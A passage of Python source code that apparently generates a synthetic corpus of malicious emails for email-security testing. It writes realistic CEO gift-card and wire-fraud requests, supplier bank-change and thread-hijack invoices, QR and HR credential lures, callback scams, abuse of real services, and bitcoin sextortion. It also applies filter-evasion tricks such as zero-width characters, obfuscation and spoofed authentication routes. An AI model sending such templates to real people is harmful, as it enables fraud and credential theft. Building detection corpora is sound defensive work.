            text = f"Hi {first},\n\nI want to surprise some of the team with gift cards for their hard work this year. I need you to get {n} {card} gift cards of {r.choice(['€100', '€200', '$100'])} each. It's a surprise so keep it between us for now.\n\nOnce you have them, scratch off the back, take a clear picture of each card and send them to me here. I'll reimburse you today.\n\nThanks\n{boss.first}"
        else:
            amt = f"€{r.randint(18, 96)},{r.randint(100, 999)}.{r.choice(['00', '50'])}"
            subj = r.choice(
                [
                    "Urgent payment",
                    "Wire transfer - today",
                    "Confidential: acquisition payment",
                    "Payment needed before 3pm",
                ]
            )
            text = f"{first},\n\nI need you to process a payment of {amt} to a new supplier today for the {r.choice(['Grand Canal Quay refurbishment', 'Sandyford acquisition deposit', 'legal settlement'])}. This is time sensitive and confidential, please don't discuss with anyone else until it is announced.\n\nI'll send the beneficiary details once you confirm you can do it now. I'm in meetings all afternoon so email only.\n\n{boss.first}"
        ent = leaf("text/plain", text + sig + "\n", cs, r.choice(["7bit", "quoted-printable", "base64"]))
        if r.random() < 0.4:
            htm = (
                '<html><body><div dir="ltr">' + esc(text + sig).replace("\n", "<br>") + "</div></body></html>"
            )
            ent = multi(r, "alternative", [ent, leaf("text/html", htm, cs, "quoted-printable")])
        hs = base_headers(r, frm, rcpt, subj, dt, rt.from_dom, cs, reply, False)
        return deliver(r, rt, rcpt, dt, hs, ent)
    if t == 3:
        emp = r.choice([x for x in STAFF if x not in (HR, CEO)])
        em = r.choice(
            [
                f"{emp.first.lower()}{emp.last.lower()}{r.randint(1, 99)}@gmail.com",
                f"{emp.first.lower()}.{emp.last.lower()}@outlook.com",
                f"{emp.first[0].lower()}{emp.last.lower()}@yahoo.com",
            ]
        )
        rt = mk_route(r, "freemail", em)
        rcpt = r.choice([HR.email, f"payroll@{DOM}"])
        subj = r.choice(
            [
                "Direct deposit change",
                "Update to my bank details",
                "Change of payroll account",
                "Salary account update before next payroll",
            ]
        )
        text = f"Hi {HR.first},\n\nI recently changed banks and would like to update my direct deposit details before the next payroll run. Could you let me know what you need from me, or can I just send the new account details here?\n\nI'm out of the office today so please reply to this email.\n\nThanks,\n{emp.first}{sig}\n"
        hs = base_headers(r, addr(emp.name, em), rcpt, subj, dt, rt.from_dom, cs, "", False)
        return deliver(r, rt, rcpt, dt, hs, leaf("text/plain", text, cs, "7bit"))
    co, sdom, sf, sl = r.choice(SUPPLIERS)
    rcpt = r.choice([AP.email, FIN.email, f"accounts@{DOM}"])
    if t in (4, 5):
        # look-alike of a real supplier
        ldom = (
            lookalike(r, sdom)
            if r.random() < 0.5
            else sdom.replace("." + sdom.split(".", 1)[1], "-" + r.choice(["ltd", "ie", "group"]) + ".com")
        )
        em = f"{sf.lower()}.{sl.lower()}@{ldom}"
        rt = mk_route(r, r.choice(["lookalike", "lookalike", "m365"]), em)
        subj = r.choice(
            [
                "Change of bank details",
                f"{co} - updated remittance information",
                "Important: new bank account",
                "RE: Outstanding invoices - new payment details",
            ]
        )
        acct = iban(r)
        text = f"Dear {who(rcpt)},\n\nPlease note that {co} has changed its banking provider following an audit. With immediate effect, all payments should be made to the account below. Our previous account is no longer in use and payments to it will be returned.\n\nBank: {r.choice(['Revolut Business', 'Bank of Ireland', 'Lloyds Bank', 'Swedbank'])}\nAccount name: {co}\nIBAN: {acct}\nBIC: {rs(r, 8, 'ABCDEFGHIKLMNOPRSTUVWXYZ')}\n\nKindly update your records and confirm once done. Could you also send a statement of any open invoices so we can reconcile?\n\nKind regards,\n{sf} {sl}\nAccounts\n{co}\n"
        atts: list[Ent] = []
        if r.random() < 0.5:
            atts.append(
                attach(
                    "Bank_Confirmation_Letter.pdf",
                    PDF,
                    fake_pdf(
                        r, f"{co.upper()} - BANK DETAILS", [f"IBAN {acct}", f"Signed: {sf} {sl}, Director"]
                    ),
                )
            )
        ent = leaf("text/plain", text, cs, "quoted-printable")
        if atts:
            ent = multi(r, "mixed", [ent, *atts])
        hs = base_headers(r, addr(f"{sf} {sl}", em), rcpt, subj, dt, rt.from_dom, cs, "", False)
        return deliver(r, rt, rcpt, dt, hs, ent)
    # thread hijack / compromised real supplier: passes authentication for the supplier's own domain
    em = f"{sf.lower()}@{sdom}"
    rt = mk_route(r, "m365", em)
    if t == 7 and r.random() < 0.5:
        rt = mk_route(r, "lookalike", f"{sf.lower()}@{lookalike(r, sdom)}")
        em = rt.envelope
    prev = dt - timedelta(days=r.randint(3, 40), hours=r.randint(1, 8))
    topic = r.choice(
        [
            "Service charge works - Block B",
            f"Invoice {ref(r, 'INV-')}",
            "Q2 maintenance contract",
            "Emergency callout 14 Ormond Court",
            "Annual lift inspection",
        ]
    )
    rp = r.choice([AP, FIN, PM, MAINT])
    acct = iban(r)
    text = (
        f"Hi {rp.first},\n\nThanks for this. Just a heads up before you release payment - our accounts have moved and the old account is being closed this week. Please use the details below for this invoice and any future payments:\n\n"
        f"IBAN: {acct}\nAccount name: {co}\n\nCan you confirm when it's scheduled? Our MD is chasing the overdue balance.\n\nThanks\n{sf}\n\n"
        f"-----Original Message-----\nFrom: {rp.name} <{rp.email}>\nSent: {format_datetime(prev)}\nTo: {sf} {sl} <{sf.lower()}@{sdom}>\nSubject: RE: {topic}\n\n"
        f"Hi {sf},\n\nThat's grand, thanks. Can you send the invoice through and I'll get it into this week's payment run.\n\nKind regards,\n{rp.name}\n{rp.title}\n{ORG}\n\n"
        f"-----Original Message-----\nFrom: {sf} {sl} <{sf.lower()}@{sdom}>\nSent: {format_datetime(prev - timedelta(days=2))}\nTo: {rp.name} <{rp.email}>\nSubject: {topic}\n\n"
        f"Hi {rp.first},\n\nWork completed on site yesterday. Sign-off sheet attached. Invoice to follow.\n\nRegards,\n{sf} {sl}\n{co}\n"
    )
    ent: Ent = leaf("text/plain", text, cs, "quoted-printable")
    if r.random() < 0.6:
        ent = multi(
            r,
            "mixed",
            [
                ent,
                attach(
                    f"Invoice_{ref(r)}.pdf",
                    PDF,
                    fake_pdf(
                        r,
                        f"{co.upper()} INVOICE",
                        [topic, f"Total due: EUR {r.randint(3000, 42000)}.00", f"Pay to IBAN {acct}"],
                    ),
                ),
            ],
        )
    extra = [
        ("In-Reply-To", f"<{rs(r, 20, UHEX)}@{DOM}>"),
        ("References", f"<{rs(r, 20, UHEX)}@{sdom}> <{rs(r, 20, UHEX)}@{DOM}>"),
        ("Thread-Topic", topic),
        ("Thread-Index", base64.b64encode(r.randbytes(22)).decode()),
    ]
    rcpt = rp.email
    reply = f"{sf.lower()}.{sl.lower()}@{lookalike(r, sdom)}" if r.random() < 0.4 else ""
    hs = base_headers(
        r, addr(f"{sf} {sl}", em), rcpt, f"RE: {topic}", dt, rt.from_dom, cs, reply, False, extra
    )
    return deliver(r, rt, rcpt, dt, hs, ent)


def f_qr(r: random.Random, i: int) -> bytes:
    rcpt = recipient(r)
    t = i % 4
    brand = r.choice(
        ["Microsoft 365", "Microsoft Authenticator", "DocuSign", "Payroll", "IT Service Desk", "SharePoint"]
    )
    png = png_qr(r)
    scan = r.choice(
        [
            "Scan the QR code below with your phone camera to continue.",
            "Use your mobile device to scan the QR code and complete the update.",
            "For security, this document can only be opened on a mobile device. Scan the code.",
        ]
    )
    intro = r.choice([f"Hello {who(rcpt)},", "Dear user,", f"Attention {rcpt},"])
    topic = r.randrange(3)
    subj = r.choice(
        [
            [
                f"Action required: 2FA re-authentication for {rcpt}",
                "Your Microsoft 365 MFA expires today",
                f"Security update for {rcpt.split('@')[0]}",
            ],
            [
                f"{brand}: Document awaiting your signature",
                f"Please sign: {doc_name(r)}",
                "Shared document - scan to view",
            ],
            [
                "Q4 salary review - confidential",
                "Annual benefits enrolment - scan to review",
                f"{who(rcpt)}: 2025 compensation statement",
            ],
        ][topic]
    )
    body = [
        "Your multi-factor authentication needs to be re-configured as part of the annual security review.",
        "You have a new document to review and sign.",
        "Your updated salary, bonus and benefits details are ready.",
    ][topic]
    if t == 0:
        cid = f"{rs(r, 10, LOWER)}@{rs(r, 6, LOWER)}"
        htm = f'<html><body style="font-family:Arial"><p>{esc(intro)}</p><p>{obf(r, body, 0.5)}</p><p>{esc(scan)}</p><p><img src="cid:{cid}" width="220" height="220" alt=""></p><p style="font-size:11px;color:#888">{esc(brand)} - automated notice</p></body></html>'
        ent = multi(
            r,
            "related",
            [
                leaf("text/html", htm, "utf-8", "quoted-printable"),
                attach(f"qr_{digits(r, 4)}.png", "image/png", png, inline=True, cid=cid),
            ],
            '; type="text/html"',
        )
    elif t == 1:
        pdf = fake_pdf(r, f"{brand.upper()} - SECURE DOCUMENT", [intro, body, scan, "[QR CODE]"])
        text = f"{intro}\n\n{body}\n\nPlease open the attached PDF and scan the QR code with your phone.\n\n{brand}\n"
        ent = multi(
            r,
            "mixed",
            [
                leaf("text/plain", text, "utf-8", "7bit"),
                attach(
                    f"{brand.replace(' ', '_')}_{ref(r)}.pdf",
                    PDF,
                    pdf + b"\n%QR " + base64.b64encode(png)[:200] + b"\n",
                ),
            ],
        )
    elif t == 2:
        # QR drawn with an HTML table (no image at all)
        rows = []
        for y in range(25):
            cells = "".join(
                f'<td style="width:6px;height:6px;background:{"#000" if (r.random() < 0.5 or (y < 7 and (x < 7 or x > 17)) or (y > 17 and x < 7)) else "#fff"}"></td>'
                for x in range(25)
            )
            rows.append(f"<tr>{cells}</tr>")
        table = (
            '<table cellpadding="0" cellspacing="0" style="border-collapse:collapse">'
            + "".join(rows)
            + "</table>"
        )
        htm = f'<html><body style="font-family:Segoe UI"><p>{esc(intro)}</p><p>{obf(r, body, 0.6)}</p><p>{esc(scan)}</p>{table}<p style="font-size:11px">Ref {ref(r)}</p></body></html>'
        ent = leaf("text/html", htm, "utf-8", r.choice(["quoted-printable", "base64"]))
    else:
        cid = f"image001.png@01DA{rs(r, 4, UHEX)}.{rs(r, 8, UHEX)}"
        htm = f'<html><body><p>{esc(intro)}</p><p>{esc(body)}</p><p>{esc(scan)}</p><img src="cid:{cid}"><p>This code expires in 24 hours.</p></body></html>'
        text = f"{intro}\n\n{body}\n\n{scan}\n\nThis code expires in 24 hours.\n"
        ent = multi(
            r,
            "related",
            [
                multi(r, "alternative", [leaf("text/plain", text), leaf("text/html", htm)]),
                attach("image001.png", "image/png", png, inline=True, cid=cid),
            ],
        )
    return send(
        r,
        brand,
        "microsoft.com" if "Micro" in brand else DOM,
        subj,
        ent,
        rcpt,
        kind=r.choice(["compromised", "m365", "throwaway", "spoof"]),
    )


def f_hr(r: random.Random, i: int) -> bytes:
    rcpt = recipient(r)
    url = lure_link(r, r.choice(["hr", "payroll", "benefits", "portal"]), rcpt)
    t = i % 6
    brand = r.choice(
        [
            "Human Resources",
            f"HR Department - {DOM}",
            "Payroll",
            "Employee Benefits Center",
            "HR Portal",
            "BrightPay Connect",
            "ADP Employee Services",
        ]
    )
    yr = r.choice([2024, 2025, 2026])
    subj, head, paras, btn = [
        (
            f"{yr} Annual Salary Adjustment - {who(rcpt)}",
            "Salary adjustment letter",
            [
                f"Following the annual compensation review, your salary adjustment for {yr} has been approved.",
                "Please review and sign the acknowledgement before the next payroll cut-off.",
            ],
            "View adjustment letter",
        ),
        (
            f"Open Enrollment {yr}: Action required",
            "Benefits open enrollment closes Friday",
            [
                "Review your health, dental and pension selections. If you do not confirm, your current elections will lapse."
            ],
            "Review benefits",
        ),
        (
            "Updated Employee Handbook - acknowledgement required",
            "Employee handbook update",
            [
                f"All staff at {ORG} must read and acknowledge the revised handbook ({yr} edition), including changes to remote working and leave policy."
            ],
            "Read and acknowledge",
        ),
        (
            "Payroll: verify your direct deposit information",
            "Payroll verification",
            [
                "Our payroll provider is migrating to a new system. Verify your bank details to ensure there is no delay to your next salary payment."
            ],
            "Verify details",
        ),
        (
            f"Christmas bonus {yr} - confidential",
            "Bonus allocation",
            ["You have been allocated a performance bonus. Sign in to view the amount and accept."],
            "View bonus",
        ),
        (
            "Disciplinary hearing notice",
            "Confidential: HR case",
            [
                "A complaint has been logged against you. Please review the attached statement and respond within 48 hours.",
                f"Case ID: HR-{digits(r, 5)}",
            ],
            "View complaint",
        ),
    ][t]
    atts: list[Ent] = []
    if r.random() < 0.3:
        atts.append(
            attach(
                f"{head.replace(' ', '_')}.htm",
                "text/html",
                html_form_attachment(r, "Microsoft", rcpt, post_url(r), "Secure HR document - sign in"),
            )
        )
    lu = Lure(head, [f"Dear {who(rcpt)},", *paras], btn, url, brand=brand, color="#2d6a4f")
    return send(
        r,
        brand,
        DOM,
        subj,
        lu,
        rcpt,
        kind=r.choice(["spoof", "compromised", "m365", "throwaway"]),
        local=r.choice(["hr", "payroll", "people", "hr-notification"]),
        attachments=atts,
    )


def f_domain(r: random.Random, i: int) -> bytes:
    rcpt = r.choice([CEO.email, OFFICE.email, f"info@{DOM}", f"admin@{DOM}", f"webmaster@{DOM}"])
    url = lure_link(r, r.choice(["domain", "hosting", "cpanel", "renew"]), rcpt)
    brand, bdom = r.choice(
        [
            ("Blacknight", "blacknight.com"),
            ("GoDaddy", "godaddy.com"),
            ("Domain Services", ""),
            ("cPanel", "cpanel.net"),
            ("Namecheap", "namecheap.com"),
            ("Network Solutions", "networksolutions.com"),
        ]
    )
    t = i % 3
    if t == 0:
        subj = r.choice(
            [
                f"Domain {DOM} expires in 3 days",
                f"FINAL NOTICE: {DOM} domain suspension",
                f"Renewal failed for {DOM}",
            ]
        )
        paras = [
            f"The registration for {DOM} will expire on {rdate(r).strftime('%d %b %Y')}. After expiry your website and email will stop working and the domain may be registered by someone else.",
            "Renew now to keep your domain.",
        ]
        btn = "Renew domain"
    elif t == 1:
        subj = r.choice(
            [
                f"Your hosting account for {DOM} has been suspended",
                f"Payment declined - {DOM} hosting",
                "cPanel: disk quota exceeded",
            ]
        )
        paras = [
            f"We were unable to process the payment for your hosting plan ({DOM}). Services have been suspended.",
            "Update your billing information to restore service.",
        ]
        btn = "Update billing"
    else:
        subj = r.choice(
            [
                f"SSL certificate for {DOM} expires today",
                f"Domain ownership verification for {DOM}",
                f"[{DOM}] Search engine submission",
            ]
        )
        paras = [
            f"Action is required for {DOM}. Verify ownership or renew to avoid security warnings on your site."
        ]
        btn = "Verify"
    lu = Lure(brand, paras, btn, url, brand=brand, color="#000")
    return send(
        r,
        brand,
        bdom,
        subj,
        lu,
        rcpt,
        kind=r.choice(["throwaway", "compromised", "spoof", "lookalike"]),
        shape=r.choice(["", "plain"]),
    )


def f_callback(r: random.Random, i: int) -> bytes:
    rcpt = recipient(r)
    brand = [
        "Geek Squad",
        "Norton LifeLock",
        "McAfee",
        "PayPal",
        "Best Buy",
        "Windows Defender",
        "Amazon",
        "Coinbase",
        "Norton 360",
        "Microsoft Billing",
    ][i % 10]
    phone = r.choice(
        [
            f"+1 (8{r.randint(0, 8)}{r.randint(0, 9)}) {digits(r, 3)}-{digits(r, 4)}",
            f"+1-8{r.randint(0, 8)}{r.randint(0, 9)}-{digits(r, 3)}-{digits(r, 4)}",
            f"+44 {digits(r, 4)} {digits(r, 6)}",
            f"1 8{r.randint(0, 8)}{r.randint(0, 9)} {digits(r, 3)} {digits(r, 4)}",
        ]
    )
    amt = f"${r.choice(['299.99', '349.00', '399.99', '489.00', '599.95', '749.99'])}"
    inv = ref(r, "INV")
    text = r.choice(
        [
            f"Dear Customer,\n\nThank you for renewing your {brand} subscription. Your membership has been auto-renewed for 3 years.\n\nInvoice: {inv}\nProduct: {brand} Total Protection\nAmount: {amt}\nPayment: Debit card\n\nThe amount will be charged to your account within 24 hours. If you did not authorise this renewal or wish to cancel, contact our billing department at {phone}.\n\nRegards,\nBilling Department\n",
            f"Hello,\n\nYour order {inv} for {r.choice(['MacBook Pro 16', 'iPhone 15 Pro Max', 'Sony PlayStation 5 bundle'])} ({amt}) has been confirmed and will be dispatched today.\n\nIf you did not place this order, call us immediately on {phone} to cancel and receive a full refund.\n",
            f"{brand} Order Confirmation\n\nOrder No: {inv}\nDate: {rdate(r).strftime('%d/%m/%Y')}\nItem: {brand} Premium Tech Support (1 yr)\nQty: 1\nTotal: {amt}\n\nFor any queries or cancellation call Customer Care: {phone}\n",
        ]
    )
    t = r.randrange(3)
    if t == 0:
        ent: Ent = leaf(
            "text/plain", zw(r, text) if r.random() < 0.4 else text, r.choice(["utf-8", "us-ascii"]), "7bit"
        )
    elif t == 1:
        pdf = fake_pdf(r, f"{brand.upper()} - INVOICE {inv}", text.split("\n"))
        ent = multi(
            r,
            "mixed",
            [
                leaf(
                    "text/plain",
                    r.choice(
                        [
                            "Please see attached invoice.",
                            f"Your invoice {inv} is attached.",
                            "Thank you for your purchase.",
                            "",
                        ]
                    )
                    + "\n",
                    "us-ascii",
                    "7bit",
                ),
                attach(f"{brand.replace(' ', '_')}_{inv}.pdf", PDF, pdf),
            ],
        )
    else:
        htm = (
            "<html><body>"
            + "".join(f"<p>{obf(r, ln, 0.5)}</p>" for ln in text.split("\n\n"))
            + "</body></html>"
        )
        ent = leaf("text/html", htm, "utf-8", "quoted-printable")
    kind = r.choice(["freemail", "freemail", "freemail", "compromised", "throwaway"])
    subj = r.choice(
        [
            f"Your {brand} subscription renewed: {inv}",
            f"Order confirmed {inv}",
            f"Invoice {inv} - {brand}",
            f"Payment received {amt}",
            f"{brand} purchase receipt #{digits(r, 7)}",
        ]
    )
    return send(r, brand, "", subj, ent, rcpt, kind=kind, bcc=r.random() < 0.7)


def f_service_abuse(r: random.Random, i: int) -> bytes:
    """Messages genuinely sent by a real service, carrying attacker-written text."""
    rcpt = recipient(r)
    dt = rdate(r)
    f, ln = pname(r)
    phone = f"+1 (8{r.randint(0, 8)}{r.randint(0, 9)}) {digits(r, 3)}-{digits(r, 4)}"
    url = lure_link(r, "doc", rcpt)
    t = i % 13
    att_name = f"{f} {ln}"
    if t == 0:
        sdom, frm_email, disp, host = (
            "google.com",
            "forms-receipts-noreply@google.com",
            "Google Forms",
            "mail-sor-f69.google.com",
        )
        subj = r.choice(
            [
                "Thanks for filling out Account verification",
                "Your response: Payment confirmation",
                "Microsoft 365 Password Update",
            ]
        )
        text = f"Thanks for filling out {subj.split(':')[-1].strip()}\n\nHere's what was received.\n\nYour account requires urgent verification. Continue at {url} or your mailbox will be closed.\n\nCreate your own Google Form\n"
    elif t == 1:
        sdom, frm_email, disp, host = (
            "docs.google.com",
            "comments-noreply@docs.google.com",
            f"{att_name} (Google Docs)",
            "mail-sor-f73.google.com",
        )
        subj = f"{r.choice(['Invoice', 'Payment', 'Contract'])} {ref(r)} - new comment"
        text = f'{att_name} mentioned you in a comment in the following document\n\n"@{rcpt} Your invoice is ready. Please review and pay via the secure portal {url} . Questions: {phone}"\n\nOpen\n\nGoogle LLC, 1600 Amphitheatre Parkway, Mountain View, CA 94043, USA\nYou have received this email because you are mentioned in this thread.\n'
    elif t == 2:
        sdom, frm_email, disp, host = (
            "google.com",
            "drive-shares-dm-noreply@google.com",
            f"{att_name} (via Google Drawings)",
            "mail-sor-f41.google.com",
        )
        subj = f'Drawing shared with you: "{r.choice(["Statement", "Document 2025", "Secure Message", "Remittance"])}"'
        text = f"{att_name} shared a drawing\n\n{f.lower()}{ln.lower()}{r.randint(1, 99)}@gmail.com has invited you to view the following drawing:\n\nStatement\n\nOpen\n\nGoogle Drive: Have all your files within reach from any device.\n"
    elif t == 3:
        sdom, frm_email, disp, host = (
            "forms.office.com",
            "noreply@forms.office.com",
            "Microsoft Forms",
            "mail-am6eur05on2045.outbound.protection.outlook.com",
        )
        subj = r.choice(
            ["Respond to: Document Access Request", "Please complete: Employee Verification Form"]
        )
        text = f"Complete this form: Secure document access\n\nYou have a pending document from {att_name}. Enter your email and password to verify your identity.\n\nFill out form: https://forms.office.com/r/{rs(r, 10, ALNUM)}\n\nMicrosoft Forms\n"
    elif t == 4:
        sdom, frm_email, disp, host = (
            "paypal.com",
            "service@paypal.com",
            "service@paypal.com",
            "mx0.slc.paypal.com",
        )
        amt = f"${r.choice(['599.99', '749.00', '899.99', '449.99'])}"
        subj = f"You have received an invoice from {r.choice(['Billing Department', 'Norton Security', 'Geek Support'])}"
        text = f"Invoice details\n\nAmount requested: {amt} USD\n\nNote from seller:\nYour PayPal account was used to purchase {r.choice(['Bitcoin', 'Norton 360 Deluxe', 'an Xbox Series X'])}. If you did not authorise this transaction, please call PayPal Support at {phone} to cancel and get a refund.\n\nInvoice number: {digits(r, 4)}\nView and Pay Invoice\n\nPayPal Pte. Ltd.\n"
    elif t == 5:
        sdom, frm_email, disp, host = (
            "messaging.squareup.com",
            "invoicing@messaging.squareup.com",
            "Account Services via Square",
            "o1.ptr3451.messaging.squareup.com",
        )
        subj = f"Invoice #{digits(r, 6)} from Account Services"
        text = f"Account Services\n\nInvoice #{digits(r, 6)}\n\nPayment due: ${r.randint(400, 900)}.00\n\nMessage: Your {r.choice(['McAfee', 'Geek Squad'])} plan renewed automatically. Call {phone} within 24 hours to dispute the charge.\n\nPay Invoice\n\nSquare Invoices\n"
    elif t == 6:
        sdom, frm_email, disp, host = (
            "docusign.net",
            "dse_NA4@docusign.net",
            f"{att_name} via DocuSign",
            f"mailfr-{r.randint(10, 99)}.docusign.net",
        )
        subj = f"Completed: {r.choice(['Tenancy Renewal', 'Invoice Payment Authorisation', 'Purchase Agreement'])} {ref(r)}"
        text = f"{att_name} sent you a document to review and sign.\n\nREVIEW DOCUMENT\n\n{att_name}\n{f.lower()}@{throwaway_domain(r)}\n\nPlease review: your outstanding balance must be settled at {url}\n\nDo Not Share This Email\n"
    elif t == 7:
        sdom, frm_email, disp, host = (
            "dropbox.com",
            "no-reply@dropbox.com",
            f"{att_name} (via Dropbox)",
            "mail-out.dropbox.com",
        )
        subj = f'{att_name} shared "{r.choice(["Payment Remittance", "RFP Documents", "Secure Files"])}" with you'
        text = f'{att_name} invited you to view the folder "Payment Remittance" on Dropbox.\n\n"Please see the remittance. Sign in with your email provider to view: {url}"\n\nGo to folder\n'
    elif t == 8:
        sdom, frm_email, disp, host = "canva.com", "no-reply@canva.com", att_name, "mail.canva.com"
        subj = f"{att_name} invited you to a design"
        text = f'{att_name} shared "Proposal Document - {ORG}" with you\n\nOpen design\n\nCanva Pty Ltd, 110 Kippax St, Surry Hills NSW 2010, Australia\n'
    elif t == 9:
        sdom, frm_email, disp, host = (
            "mail.notion.so",
            "notify@mail.notion.so",
            f"{att_name} (via Notion)",
            "mail.notion.so",
        )
        subj = f"{att_name} invited you to Secure Document Portal"
        text = (
            f"{att_name} invited you to a Notion page\n\nSecure Document Portal - {ORG}\n\nOpen in Notion\n"
        )
    elif t == 10:
        sdom, frm_email, disp, host = (
            "webflow.com",
            "no-reply-forms@webflow.com",
            "Webflow Forms",
            "mail.webflow.com",
        )
        subj = f"New form submission on {rs(r, 8, LOWER)}.webflow.io"
        text = f"New form submission\n\nName: {DOM} Support\nMessage: Your mailbox {rcpt} is scheduled for deactivation. Reverify at {url}\n\nSite: {rs(r, 8, LOWER)}.webflow.io\n"
    elif t == 11:
        sdom, frm_email, disp, host = (
            "salesforce.com",
            f"noreply@{r.choice(['salesforce.com', 'eu.salesforce.com'])}",
            r.choice(["Meta Support", "Facebook Business", "Microsoft Account Team"]),
            f"smtp{r.randint(10, 99)}-ia4-sp2.mta.salesforce.com",
        )
        subj = r.choice(["Your page has been disabled", "Account restriction notice"])
        text = f"Your Facebook page has been restricted due to repeated copyright infringement reports.\n\nIf you believe this is a mistake, submit an appeal: {url}\n\nMeta Platforms, Inc., Attention: Community Support\n"
    else:
        sdom, frm_email, disp, host = (
            "notification.intuit.com",
            "quickbooks@notification.intuit.com",
            f"{r.choice(['Billing', 'Accounts Receivable'])} - {r.choice(['NortonCare', 'Renewal Center'])}",
            "mta3.notification.intuit.com",
        )
        subj = f"Invoice {digits(r, 4)} from {disp}"
        text = f"Dear Customer,\n\nYour invoice is attached. Please remit payment at your earliest convenience.\n\nThank you for your business - we appreciate it very much.\n\nSincerely,\nRenewal Center\n{phone}\n\nReview and pay\n"
    ip = ipdoc(r)
    rt = Route(
        f"bounces+{rs(r, 12, LOWER)}@{sdom}" if r.random() < 0.5 else frm_email,
        host,
        ip,
        "pass",
        frm_email.split("@")[1],
        [
            (
                sdom if sdom.count(".") < 2 else sdom.split(".", 1)[1],
                r.choice(["20230601", "s1", "pp-dkim1", "selector1", "scph0123"]),
                "pass",
            )
        ],
        "pass",
        r.choice(["reject", "quarantine"]),
        host,
    )
    anchor = '<a href="' + esc(url) + '">' + esc(url) + "</a>"
    lu_html = (
        '<html><body style="font-family:Roboto,Arial">'
        + "".join(
            "<p>" + esc(p).replace(esc(url), anchor).replace("\n", "<br>") + "</p>"
            for p in text.split("\n\n")
        )
        + "</body></html>"
    )
    ent = multi(
        r,
        "alternative",
        [
            leaf("text/plain", text, "utf-8", "quoted-printable"),
            leaf("text/html", lu_html, "utf-8", "quoted-printable"),
        ],
    )
    hs = base_headers(
        r,
        addr(disp, frm_email),
        rcpt,
        subj,
        dt,
        sdom,
        "utf-8",
        f"{f.lower()}{ln.lower()}{digits(r, 2)}@gmail.com" if r.random() < 0.5 else "",
        r.random() < 0.2,
    )
    return deliver(r, rt, rcpt, dt, hs, ent)


def f_extortion(r: random.Random, i: int) -> bytes:
    rcpt = recipient(r)
    btc = "bc1q" + rs(r, 38, "qpzry9x8gf2tvdw0s3jn54khce6mua7l")
    amt = r.choice(["$1450", "$1650", "$1950", "€1300", "$2000"])
    text = r.choice(
        [
            f"Hello!\n\nI have to share bad news with you. Approximately a few months ago I gained access to your devices that you use for internet browsing. After that, I started tracking your internet activities.\n\nI made a video showing you on the left side of the screen and the videos you were watching on the right. With one click I can send this video to all your email and social network contacts.\n\nIf you want to prevent this, transfer {amt} to my bitcoin wallet: {btc}\n\nYou have 48 hours after opening this email. I can see when you have read it. Do not reply, this mailbox is not monitored.\n",
            f"{rcpt}\n\nI know that {rs(r, 3, string.ascii_lowercase)}{digits(r, 4)} is your password. Your device was infected with my malware when you visited a website. I have recordings of you and a list of all your contacts.\n\nPay {amt} in Bitcoin to {btc} and I will delete everything. You have one day.\n",
        ]
    )
    text = text if r.random() < 0.5 else zw(r, text)
    cs = r.choice(["utf-8", "iso-8859-1"])
    ent = leaf("text/plain", text, cs, r.choice(["7bit", "quoted-printable", "base64"]))
    subj = r.choice(
        [
            f"{rcpt}",
            "Your account has been hacked! You need to unlock it.",
            "Payment pending",
            f"{who(rcpt)}, I have your video",
            "Security Alert: Your device is compromised",
        ]
    )
    kind = r.choice(["spoof", "throwaway", "compromised"])
    if kind == "spoof":
        # sent "from" the recipient's own address
        rt = mk_route(r, "spoof", rcpt)
        rt.policy = "quarantine"
        dt = rdate(r)
        hs = base_headers(r, rcpt, rcpt, subj, dt, DOM, cs, "", False)
        return deliver(r, rt, rcpt, dt, hs, ent)
    return send(
        r, "", "", subj, ent, rcpt, kind=kind, disp=r.choice(["", "Hacker", "Anonymous"]) or "Unknown"
    )


# (lang, brand, brand_dom, charsets, subjects, heading, paragraphs, button)
FOREIGN: list[tuple[str, str, str, list[str], list[str], str, list[str], str]] = [
    (
        "es",
        "Correos",
        "correos.es",
        ["utf-8", "iso-8859-1", "windows-1252"],
        [
            "Correos: su envío está retenido en aduanas",
            "Aviso de entrega fallida - Ref. {ref}",
            "Su paquete no ha podido ser entregado",
        ],
        "Su envío está pendiente",
        [
            "Estimado/a cliente:",
            "Su paquete {ref} se encuentra retenido en nuestro centro logístico debido a tasas de aduana pendientes ({eur}).",
            "Si no se realiza el pago en un plazo de 48 horas, el envío será devuelto al remitente.",
        ],
        "Pagar ahora",
    ),
    (
        "es",
        "BBVA",
        "bbva.es",
        ["utf-8", "iso-8859-1"],
        [
            "BBVA: Actualización de seguridad obligatoria",
            "Su cuenta ha sido bloqueada temporalmente",
            "Aviso importante: verificación de identidad",
        ],
        "Aviso de seguridad",
        [
            "Estimado cliente:",
            "Hemos detectado un acceso no autorizado a su banca online desde un dispositivo desconocido.",
            "Para evitar la suspensión de su cuenta, confirme sus datos antes de 24 horas.",
        ],
        "Verificar mi cuenta",
    ),
    (
        "es",
        "Agencia Tributaria",
        "agenciatributaria.gob.es",
        ["utf-8", "windows-1252"],
        ["Agencia Tributaria: devolución pendiente de {eur}", "Notificación de reembolso - Ejercicio {year}"],
        "Devolución de impuestos",
        [
            "Tras el último cálculo anual de su actividad fiscal, le corresponde una devolución de {eur}.",
            "Por favor, complete el formulario para recibir el reembolso en su cuenta bancaria.",
        ],
        "Solicitar devolución",
    ),
    (
        "es",
        "Microsoft 365",
        "microsoft.com",
        ["utf-8"],
        ["Su contraseña caduca hoy", "Mensajes pendientes en su buzón ({n})"],
        "Aviso de caducidad de contraseña",
        [
            "La contraseña de {rcpt} caduca hoy.",
            "Puede mantener la misma contraseña haciendo clic abajo. De lo contrario, perderá el acceso a su correo.",
        ],
        "Mantener contraseña",
    ),
    (
        "es",
        "Santander",
        "santander.com",
        ["utf-8", "iso-8859-1"],
        ["Santander: nuevo dispositivo vinculado", "Operación pendiente de confirmación: {eur}"],
        "Operación bloqueada",
        [
            "Hemos bloqueado una transferencia de {eur} a un destinatario nuevo.",
            "Si usted no ha realizado esta operación, cancélela inmediatamente.",
        ],
        "Cancelar operación",
    ),
    (
        "pt",
        "CTT Expresso",
        "ctt.pt",
        ["utf-8", "iso-8859-1"],
        ["CTT: a sua encomenda aguarda pagamento de portes", "Entrega não efetuada - {ref}"],
        "A sua encomenda está retida",
        [
            "Caro(a) cliente,",
            "A sua encomenda {ref} encontra-se retida na alfândega. É necessário o pagamento de {eur} para concluir a entrega.",
            "Após 48 horas a encomenda será devolvida ao remetente.",
        ],
        "Pagar portes",
    ),
    (
        "pt",
        "Millennium bcp",
        "millenniumbcp.pt",
        ["utf-8", "iso-8859-1", "windows-1252"],
        ["Millennium: atualização de dados obrigatória", "O seu acesso foi suspenso"],
        "Atualização de segurança",
        [
            "Estimado cliente,",
